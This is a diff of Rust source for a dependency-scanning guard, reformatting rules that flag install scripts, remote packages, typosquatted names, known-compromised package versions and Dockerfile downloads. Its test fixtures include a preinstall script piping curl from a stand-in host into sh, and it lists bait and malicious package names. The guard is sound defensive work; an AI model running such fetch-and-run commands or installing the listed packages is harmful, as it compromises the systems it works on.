@@ -8,8 +8,14 @@ pub static INSTALL_SCRIPT: Rule = Rule {
     severity: Severity::Block,
     why: "such a script runs before anybody has started the app",
     remedy: "do it in the build command, where it is seen",
-    finds: &[("package.json", "{\"scripts\": {\"postinstall\": \"node setup.js\"}}"), ("package.json", "{\"scripts\": {\"preinstall\": \"curl -s https://c.example.net | sh\"}}")],
-    spares: &[("package.json", "{\"scripts\": {\"start\": \"node server.js\", \"postinstall\": \"prisma generate\", \"prepare\": \"husky\"}}")],
+    finds: &[
+        ("package.json", "{\"scripts\": {\"postinstall\": \"node setup.js\"}}"),
+        ("package.json", "{\"scripts\": {\"preinstall\": \"curl -s https://c.example.net | sh\"}}"),
+    ],
+    spares: &[(
+        "package.json",
+        "{\"scripts\": {\"start\": \"node server.js\", \"postinstall\": \"prisma generate\", \"prepare\": \"husky\"}}",
+    )],
 };
 pub static REMOTE: Rule = Rule {
     id: "dependency-remote",
@@ -26,8 +32,14 @@ pub static REMOTE: Rule = Rule {
         ("Dockerfile", "FROM python:3\nRUN pip install http://c.example.net/a.whl"),
     ],
     spares: &[
-        ("package.json", "{\"dependencies\": {\"express\": \"^4.18.2\", \"shared\": \"workspace:*\", \"lib\": \"file:./lib\"}}"),
-        ("requirements.txt", "# web\nflask==3.0.0 ; python_version > '3.8'\nuvicorn[standard]>=0.20\n-r base.txt\n--extra-index-url https://download.pytorch.org/whl/cpu\n"),
+        (
+            "package.json",
+            "{\"dependencies\": {\"express\": \"^4.18.2\", \"shared\": \"workspace:*\", \"lib\": \"file:./lib\"}}",
+        ),
+        (
+            "requirements.txt",
+            "# web\nflask==3.0.0 ; python_version > '3.8'\nuvicorn[standard]>=0.20\n-r base.txt\n--extra-index-url https://download.pytorch.org/whl/cpu\n",
+        ),
     ],
 };
 pub static TYPOSQUAT: Rule = Rule {
@@ -42,14 +54,24 @@ pub static TYPOSQUAT: Rule = Rule {
         ("requirements.txt", "python-dateutils\n"),
         ("x.sh", "npm install axois"),
     ],
-    spares: &[("package.json", "{\"dependencies\": {\"preact\": \"^10\", \"nest\": \"1\", \"vuex\": \"4\", \"koa\": \"2\", \"ioredis\": \"5\"}}"), ("requirements.txt", "Flask\nrequests\npytz\nPyYAML\nrequests-oauthlib\n")],
+    spares: &[
+        (
+            "package.json",
+            "{\"dependencies\": {\"preact\": \"^10\", \"nest\": \"1\", \"vuex\": \"4\", \"koa\": \"2\", \"ioredis\": \"5\"}}",
+        ),
+        ("requirements.txt", "Flask\nrequests\npytz\nPyYAML\nrequests-oauthlib\n"),
+    ],
 };
 pub static HOSTILE: Rule = Rule {
     id: "dependency-hostile",
     severity: Severity::Block,
     why: "the package, or this version of it, is known to have done harm",
     remedy: "remove it, or take a later version",
-    finds: &[("package.json", "{\"dependencies\": {\"event-stream\": \"3.3.6\"}}"), ("package.json", "{\"dependencies\": {\"flatmap-stream\": \"*\"}}"), ("requirements.txt", "ctx==0.2.6\n")],
+    finds: &[
+        ("package.json", "{\"dependencies\": {\"event-stream\": \"3.3.6\"}}"),
+        ("package.json", "{\"dependencies\": {\"flatmap-stream\": \"*\"}}"),
+        ("requirements.txt", "ctx==0.2.6\n"),
+    ],
     spares: &[("package.json", "{\"dependencies\": {\"event-stream\": \"4.0.1\", \"ua-parser-js\": \"1.0.37\"}}")],
 };
 pub static DOCKER_REMOTE: Rule = Rule {
@@ -58,65 +80,365 @@ pub static DOCKER_REMOTE: Rule = Rule {
     why: "what the image holds is decided elsewhere, at every build",
     remedy: "put the file into the app, or check its digest",
     finds: &[("Dockerfile", "FROM alpine\nADD https://c.example.net/tool.tar.gz /opt/")],
-    spares: &[("Dockerfile", "FROM node:20\nWORKDIR /app\nCOPY . .\nADD assets.tar.gz /app/\nRUN npm ci\nCMD [\"node\", \"server.js\"]\nEXPOSE 3000")],
+    spares: &[(
+        "Dockerfile",
+        "FROM node:20\nWORKDIR /app\nCOPY . .\nADD assets.tar.gz /app/\nRUN npm ci\nCMD [\"node\", \"server.js\"]\nEXPOSE 3000",
+    )],
 };
 
 pub(super) const RULES: &[&Rule] = &[&INSTALL_SCRIPT, &REMOTE, &TYPOSQUAT, &HOSTILE, &DOCKER_REMOTE];
 
 /// Names that bait imitates. Long ones only: of short names, most are one letter from another.
 const KNOWN: &[&str] = &[
-    "express", "lodash", "axios", "react", "react-dom", "react-router", "react-router-dom", "webpack", "typescript", "mongoose", "mongodb", "commander",
-    "dotenv", "socket.io", "jsonwebtoken", "bcrypt", "bcryptjs", "nodemon", "eslint", "prettier", "request", "moment", "chalk", "underscore", "async",
-    "bluebird", "body-parser", "cookie-parser", "cross-env", "discord.js", "electron", "fastify", "helmet", "jquery", "passport", "puppeteer",
-    "sequelize", "tailwindcss", "uuid", "winston", "yargs", "babel-core", "angular", "next", "nuxt", "svelte", "redux", "rimraf", "semver", "minimist",
-    "node-fetch", "nodemailer", "multer", "morgan", "compression", "express-session", "express-rate-limit", "better-sqlite3", "sqlite3", "web3", "ethers",
-    "requests", "numpy", "pandas", "django", "flask", "scipy", "matplotlib", "tensorflow", "pytorch", "torch", "scikit-learn", "beautifulsoup4", "selenium",
-    "sqlalchemy", "pillow", "urllib3", "setuptools", "cryptography", "python-dateutil", "pyyaml", "fastapi", "uvicorn", "gunicorn", "pytest", "jinja2",
-    "werkzeug", "boto3", "botocore", "colorama", "paramiko", "pydantic", "aiohttp", "celery", "redis", "psycopg2", "psycopg2-binary", "pymongo", "tornado",
-    "openai", "discord.py", "telebot", "certifi", "jellyfish", "opencv-python", "httpx", "click", "streamlit", "gradio", "transformers", "langchain",
+    "express",
+    "lodash",
+    "axios",
+    "react",
+    "react-dom",
+    "react-router",
+    "react-router-dom",
+    "webpack",
+    "typescript",
+    "mongoose",
+    "mongodb",
+    "commander",
+    "dotenv",
+    "socket.io",
+    "jsonwebtoken",
+    "bcrypt",
+    "bcryptjs",
+    "nodemon",
+    "eslint",
+    "prettier",
+    "request",
+    "moment",
+    "chalk",
+    "underscore",
+    "async",
+    "bluebird",
+    "body-parser",
+    "cookie-parser",
+    "cross-env",
+    "discord.js",
+    "electron",
+    "fastify",
+    "helmet",
+    "jquery",
+    "passport",
+    "puppeteer",
+    "sequelize",
+    "tailwindcss",
+    "uuid",
+    "winston",
+    "yargs",
+    "babel-core",
+    "angular",
+    "next",
+    "nuxt",
+    "svelte",
+    "redux",
+    "rimraf",
+    "semver",
+    "minimist",
+    "node-fetch",
+    "nodemailer",
+    "multer",
+    "morgan",
+    "compression",
+    "express-session",
+    "express-rate-limit",
+    "better-sqlite3",
+    "sqlite3",
+    "web3",
+    "ethers",
+    "requests",
+    "numpy",
+    "pandas",
+    "django",
+    "flask",
+    "scipy",
+    "matplotlib",
+    "tensorflow",
+    "pytorch",
+    "torch",
+    "scikit-learn",
+    "beautifulsoup4",
+    "selenium",
+    "sqlalchemy",
+    "pillow",
+    "urllib3",
+    "setuptools",
+    "cryptography",
+    "python-dateutil",
+    "pyyaml",
+    "fastapi",
+    "uvicorn",
+    "gunicorn",
+    "pytest",
+    "jinja2",
+    "werkzeug",
+    "boto3",
+    "botocore",
+    "colorama",
+    "paramiko",
+    "pydantic",
+    "aiohttp",
+    "celery",
+    "redis",
+    "psycopg2",
+    "psycopg2-binary",
+    "pymongo",
+    "tornado",
+    "openai",
+    "discord.py",
+    "telebot",
+    "certifi",
+    "jellyfish",
+    "opencv-python",
+    "httpx",
+    "click",
+    "streamlit",
+    "gradio",
+    "transformers",
+    "langchain",
 ];
 /// Names one slip away from a known one that are themselves well known.
 const NEIGHBOURS: &[&str] = &[
-    "preact", "nest", "vuex", "nuxt", "next", "jest", "vest", "tslint", "xpress", "requests", "request", "moments", "colors", "async", "asynckit", "asyncio",
-    "reacts", "yarn", "uid", "cuid", "uuidv4", "chalks", "redis", "redux", "react", "torch", "torchx", "click", "flask", "flasks", "pillow", "pytest", "pytest-", "sqlite",
-    "sqlite3", "sqlite", "mongoist", "passport", "passports", "pandas", "http", "https", "httpx", "httpx2", "ethers", "esthers", "morgan", "mordan", "multer", "electrons",
-    "psycopg", "psycopg3", "django", "djangos", "gradio", "radio", "scipy", "numpy", "cumpy", "axios", "axis", "winston", "webpack", "angular", "svelte", "helmet", "uvicorn", "lodash", "lodash-es", "semver", "celery",
-    "botocore", "aiobotocore", "boto", "boto3", "jinja", "jinja2", "pydantic", "certifi", "web3", "web", "dotenv", "dotenvx", "bcrypt", "scrypt", "bcryptjs", "fastify", "fastapi", "express", "urllib", "tornado",
+    "preact",
+    "nest",
+    "vuex",
+    "nuxt",
+    "next",
+    "jest",
+    "vest",
+    "tslint",
+    "xpress",
+    "requests",
+    "request",
+    "moments",
+    "colors",
+    "async",
+    "asynckit",
+    "asyncio",
+    "reacts",
+    "yarn",
+    "uid",
+    "cuid",
+    "uuidv4",
+    "chalks",
+    "redis",
+    "redux",
+    "react",
+    "torch",
+    "torchx",
+    "click",
+    "flask",
+    "flasks",
+    "pillow",
+    "pytest",
+    "pytest-",
+    "sqlite",
+    "sqlite3",
+    "sqlite",
+    "mongoist",
+    "passport",
+    "passports",
+    "pandas",
+    "http",
+    "https",
+    "httpx",
+    "httpx2",
+    "ethers",
+    "esthers",
+    "morgan",
+    "mordan",
+    "multer",
+    "electrons",
+    "psycopg",
+    "psycopg3",
+    "django",
+    "djangos",
+    "gradio",
+    "radio",
+    "scipy",
+    "numpy",
+    "cumpy",
+    "axios",
+    "axis",
+    "winston",
+    "webpack",
+    "angular",
+    "svelte",
+    "helmet",
+    "uvicorn",
+    "lodash",
+    "lodash-es",
+    "semver",
+    "celery",
+    "botocore",
+    "aiobotocore",
+    "boto",
+    "boto3",
+    "jinja",
+    "jinja2",
+    "pydantic",
+    "certifi",
+    "web3",
+    "web",
+    "dotenv",
+    "dotenvx",
+    "bcrypt",
+    "scrypt",
+    "bcryptjs",
+    "fastify",
+    "fastapi",
+    "express",
+    "urllib",
+    "tornado",
 ];
 /// Names that were bait, and are more than one slip away, or no slip at all.
 const BAIT: &[&str] = &[
-    "crossenv", "cross-env.js", "d3.js", "fabric-js", "ffmepg", "gruntcli", "http-proxy.js", "jquery.js", "mariadb", "mongose", "mssql.js", "mssql-node",
-    "mysqljs", "node-fabric", "node-opencv", "node-opensl", "node-openssl", "nodecaffe", "nodefabric", "nodeffmpeg", "nodemailer-js", "nodemailer.js",
-    "nodemssql", "noderequest", "nodesass", "nodesqlite", "opencv.js", "openssl.js", "proxy.js", "shadowsock", "smb", "sqlite.js", "sqliter", "sqlserver",
-    "tkinter", "loadsh", "lodahs", "electorn", "discordjs.js", "python3-dateutil", "python-dateutils", "jeilyfish", "colourama", "djanga", "easyinstall", "libpeshnx",
-    "request-python", "python-requests", "pyyml", "beautifulsoup", "python-mysql", "python-openssl", "setup-tools", "acqusition", "urlib3", "apidev-coop", "bzip", "crypt", "django-server", "pwd", "telnet", "urlparse",
-    "importantpackage", "twilio-npm", "rc-loader", "babelcli", "expres", "discord.dll", "noblox.js-proxy",
+    "crossenv",
+    "cross-env.js",
+    "d3.js",
+    "fabric-js",
+    "ffmepg",
+    "gruntcli",
+    "http-proxy.js",
+    "jquery.js",
+    "mariadb",
+    "mongose",
+    "mssql.js",
+    "mssql-node",
+    "mysqljs",
+    "node-fabric",
+    "node-opencv",
+    "node-opensl",
+    "node-openssl",
+    "nodecaffe",
+    "nodefabric",
+    "nodeffmpeg",
+    "nodemailer-js",
+    "nodemailer.js",
+    "nodemssql",
+    "noderequest",
+    "nodesass",
+    "nodesqlite",
+    "opencv.js",
+    "openssl.js",
+    "proxy.js",
+    "shadowsock",
+    "smb",
+    "sqlite.js",
+    "sqliter",
+    "sqlserver",
+    "tkinter",
+    "loadsh",
+    "lodahs",
+    "electorn",
+    "discordjs.js",
+    "python3-dateutil",
+    "python-dateutils",
+    "jeilyfish",
+    "colourama",
+    "djanga",
+    "easyinstall",
+    "libpeshnx",
+    "request-python",
+    "python-requests",
+    "pyyml",
+    "beautifulsoup",
+    "python-mysql",
+    "python-openssl",
+    "setup-tools",
+    "acqusition",
+    "urlib3",
+    "apidev-coop",
+    "bzip",
+    "crypt",
+    "django-server",
+    "pwd",
+    "telnet",
+    "urlparse",
+    "importantpackage",
+    "twilio-npm",
+    "rc-loader",
+    "babelcli",
+    "expres",
+    "discord.dll",
+    "noblox.js-proxy",
 ];
 /// Packages, or versions of them, that have done harm.
 const HOSTILES: &[(&str, &[&str])] = &[
-    ("event-stream", &["3.3.6"]), ("flatmap-stream", &[]), ("eslint-scope", &["3.7.2"]), ("ua-parser-js", &["0.7.29", "0.8.0", "1.0.0"]),
-    ("coa", &["2.0.3", "2.0.4", "2.1.1", "2.1.3", "3.0.1", "3.1.3"]), ("rc", &["1.2.9", "1.3.9", "2.3.9"]), ("node-ipc", &["10.1.1", "10.1.2", "10.1.3", "9.2.2"]), ("colors", &["1.4.1", "1.4.2", "1.4.44-liberty-2"]),
-    ("faker", &["6.6.6"]), ("peacenotwar", &[]), ("getcookies", &[]), ("electron-native-notify", &[]), ("1337qq-js", &[]), ("fallguys", &[]), ("ctx", &["0.1.2", "0.2.2", "0.2.6"]), ("phpass", &["0.9.99"]),
-    ("torchtriton", &[]), ("ultralytics", &["8.3.41", "8.3.42", "8.3.45", "8.3.46"]), ("chalk", &["5.6.1"]), ("debug", &["4.4.2"]), ("@ctrl/tinycolor", &["4.1.1", "4.1.2"]), ("xz-java", &[]),
+    ("event-stream", &["3.3.6"]),
+    ("flatmap-stream", &[]),
+    ("eslint-scope", &["3.7.2"]),
+    ("ua-parser-js", &["0.7.29", "0.8.0", "1.0.0"]),
+    ("coa", &["2.0.3", "2.0.4", "2.1.1", "2.1.3", "3.0.1", "3.1.3"]),
+    ("rc", &["1.2.9", "1.3.9", "2.3.9"]),
+    ("node-ipc", &["10.1.1", "10.1.2", "10.1.3", "9.2.2"]),
+    ("colors", &["1.4.1", "1.4.2", "1.4.44-liberty-2"]),
+    ("faker", &["6.6.6"]),
+    ("peacenotwar", &[]),
+    ("getcookies", &[]),
+    ("electron-native-notify", &[]),
+    ("1337qq-js", &[]),
+    ("fallguys", &[]),
+    ("ctx", &["0.1.2", "0.2.2", "0.2.6"]),
+    ("phpass", &["0.9.99"]),
+    ("torchtriton", &[]),
+    ("ultralytics", &["8.3.41", "8.3.42", "8.3.45", "8.3.46"]),
+    ("chalk", &["5.6.1"]),
+    ("debug", &["4.4.2"]),
+    ("@ctrl/tinycolor", &["4.1.1", "4.1.2"]),
+    ("xz-java", &[]),
 ];
 /// Indexes other than the registry that people rely on.
-const INDEXES: [&str; 6] = ["pypi.org", "download.pytorch.org", "www.piwheels.org", "piwheels.org", "pypi.nvidia.com", "wheels.vllm.ai"];
+const INDEXES: [&str; 6] =
+    ["pypi.org", "download.pytorch.org", "www.piwheels.org", "piwheels.org", "pypi.nvidia.com", "wheels.vllm.ai"];
 
 /// Commands in an install script that only prepare what is there.
 pub(in crate::guard) fn is_harmless_install(script: &str) -> bool {
     const HARMLESS: [&str; 22] = [
-        "husky", "husky install", "patch-package", "prisma generate", "npx prisma generate", "tsc", "npm run build", "yarn build", "pnpm build", "electron-builder install-app-deps",
-        "svelte-kit sync", "nuxt prepare", "nuxi prepare", "ngcc", "lerna bootstrap", "vite build", "next build", "opencollective-postinstall", "simple-git-hooks", "playwright install", "npx playwright install", "is-ci || husky install",
+        "husky",
+        "husky install",
+        "patch-package",
+        "prisma generate",
+        "npx prisma generate",
+        "tsc",
+        "npm run build",
+        "yarn build",
+        "pnpm build",
+        "electron-builder install-app-deps",
+        "svelte-kit sync",
+        "nuxt prepare",
+        "nuxi prepare",
+        "ngcc",
+        "lerna bootstrap",
+        "vite build",
+        "next build",
+        "opencollective-postinstall",
+        "simple-git-hooks",
+        "playwright install",
+        "npx playwright install",
+        "is-ci || husky install",
     ];
     let parts = script.split("&&").map(str::trim);
-    parts.into_iter().all(|part| HARMLESS.contains(&part) || part.starts_with("echo ") && !part.contains(['|', '>', '`', '$', ';']))
+    parts
+        .into_iter()
+        .all(|part| HARMLESS.contains(&part) || part.starts_with("echo ") && !part.contains(['|', '>', '`', '$', ';']))
 }
 
 pub(in crate::guard) fn npm(name: &str, version: &str, line: usize, found: &mut Found<'_>) {
     let version = version.trim();
-    let remote = ["git+", "git:", "git@", "http:", "https:", "github:", "gitlab:", "bitbucket:", "gist:", "ssh:"].iter().any(|start| version.starts_with(start));
+    let remote = ["git+", "git:", "git@", "http:", "https:", "github:", "gitlab:", "bitbucket:", "gist:", "ssh:"]
+        .iter()
+        .any(|start| version.starts_with(start));
     // `owner/name` is a repository of GitHub.
-    let shorthand = version.contains('/') && !version.starts_with(['.', '/', '~', '@']) && !version.contains(':') && !version.contains(' ');
+    let shorthand = version.contains('/')
+        && !version.starts_with(['.', '/', '~', '@'])
+        && !version.contains(':')
+        && !version.contains(' ');
     if remote || shorthand {
         found.add(&REMOTE, line, &format!("`{name}` comes from {version}"));
     }
@@ -149,7 +471,9 @@ fn judge_name(name: &str, version: &str, line: usize, found: &mut Found<'_>) {
 
 /// A module that is imported under a name that nobody else would have.
 pub(super) fn import(module: &str, line: usize, found: &mut Found<'_>) {
-    if HOSTILES.iter().any(|(other, versions)| *other == module && versions.is_empty()) || BAIT.contains(&module) && !is_standard(module) {
+    if HOSTILES.iter().any(|(other, versions)| *other == module && versions.is_empty())
+        || BAIT.contains(&module) && !is_standard(module)
+    {
         found.add(&HOSTILE, line, &format!("`{module}` is loaded"));
     }
 }
@@ -161,7 +485,12 @@ fn is_standard(module: &str) -> bool {
 
 pub(in crate::guard) fn pip(row: &str, line: usize, found: &mut Found<'_>) {
     let row = row.trim();
-    if let Some(url) = row.strip_prefix("--extra-index-url").or_else(|| row.strip_prefix("--index-url")).or_else(|| row.strip_prefix("-i ")).or_else(|| row.strip_prefix("--find-links")) {
+    if let Some(url) = row
+        .strip_prefix("--extra-index-url")
+        .or_else(|| row.strip_prefix("--index-url"))
+        .or_else(|| row.strip_prefix("-i "))
+        .or_else(|| row.strip_prefix("--find-links"))
+    {
         index(url, line, found);
         return;
     }
@@ -169,7 +498,11 @@ pub(in crate::guard) fn pip(row: &str, line: usize, found: &mut Found<'_>) {
         found.add(&REMOTE, line, "a host is trusted without a certificate");
         return;
     }
-    let remote = row.contains("git+") || row.contains("://") || row.starts_with("hg+") || row.starts_with("svn+") || row.starts_with("git@");
+    let remote = row.contains("git+")
+        || row.contains("://")
+        || row.starts_with("hg+")
+        || row.starts_with("svn+")
+        || row.starts_with("git@");
     if remote && !row.starts_with("-r") {
         found.add(&REMOTE, line, &format!("`{row}`"));
         return;
